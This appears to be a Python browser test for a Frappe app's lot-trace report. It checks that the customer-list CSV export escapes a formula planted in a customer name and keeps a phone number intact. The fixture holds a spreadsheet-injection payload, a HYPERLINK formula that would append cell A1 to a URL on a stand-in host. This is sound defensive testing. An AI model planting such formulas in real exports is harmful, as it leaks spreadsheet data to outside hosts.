"""The Lot Trace's *Exporter la liste des clients*, in headless Chromium as the French counter clerk
(Stock User + Sales User): a customer named `=HYPERLINK(…)` comes out of the CSV as text (a leading
quote, `core.export_cells`), the customer's mobile `+212 6 12 34 56 78` as typed."""

import csv
import io
import re

import frappe
from frappe.utils import add_days, nowdate
from frappe.utils.password import update_password

from dux_trace.tests.browser import BrowserTestCase, skip_without_browser
from dux_trace.tests.utils import make_customer, make_item, make_lot, make_outgoing, receive, role_user

PASSWORD = "Comptoir-Test-2026!"
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"Details")'
PHONE = "+212 6 12 34 56 78"


@skip_without_browser
class TestHostileExportInTheBrowser(BrowserTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.tag = run = frappe.generate_hash(length=4).upper()
		cls.clerk = role_user("Stock User", "Sales User")
		update_password(cls.clerk, PASSWORD)
		cls.item = make_item(f"_DUX Yaourt Export {run}", "Lot", shelf_life_in_days=40).name
		cls.lot = make_lot(cls.item, f"EXP{run}", add_days(nowdate(), 20))
		receive(cls.item, 5, batch_no=cls.lot)
		cls.customer = make_customer(f"Client Export {run}")
		frappe.db.set_value(
			"Customer", cls.customer, {"customer_name": f"{FORMULA} {run}", "mobile_no": PHONE}
		)
		make_outgoing("Delivery Note", cls.item, 2, batch_no=cls.lot, customer=cls.customer, submit=True)
		frappe.db.commit()
		cls.start_server()

	@classmethod
	def tearDownClass(cls):
		cls.stop_server()
		super().tearDownClass()

	def test_the_customer_list_export_neutralises_a_formula_and_keeps_the_phone(self):
		from playwright.sync_api import expect, sync_playwright

		with sync_playwright() as playwright:
			browser, page = self.open_browser(playwright, self.clerk, PASSWORD)
			try:
				page.goto("/app/query-report/Lot Trace")
				page.wait_for_load_state("networkidle")
				page.locator(".page-form input[data-fieldname=batch_no]").fill(self.lot)
				page.keyboard.press("Tab")
				expect(page.get_by_text(re.compile("Clients ayant reçu le lot"))).to_be_visible()
				with page.expect_download() as download:
					page.get_by_role("button", name="Exporter la liste des clients").click()
				with open(download.value.path(), encoding="utf-8-sig") as f:
					rows = list(csv.reader(io.StringIO(f.read())))
			finally:
				browser.close()
		cells = [cell for row in rows[1:] for cell in row]
		named = [cell for cell in cells if "HYPERLINK" in cell]
		self.assertEqual(named, [f"'{FORMULA} {self.tag}"], rows)
		self.assertIn(PHONE, cells, rows)
		self.assertFalse([cell for cell in cells if cell[:1] in ("=", "@")], rows)
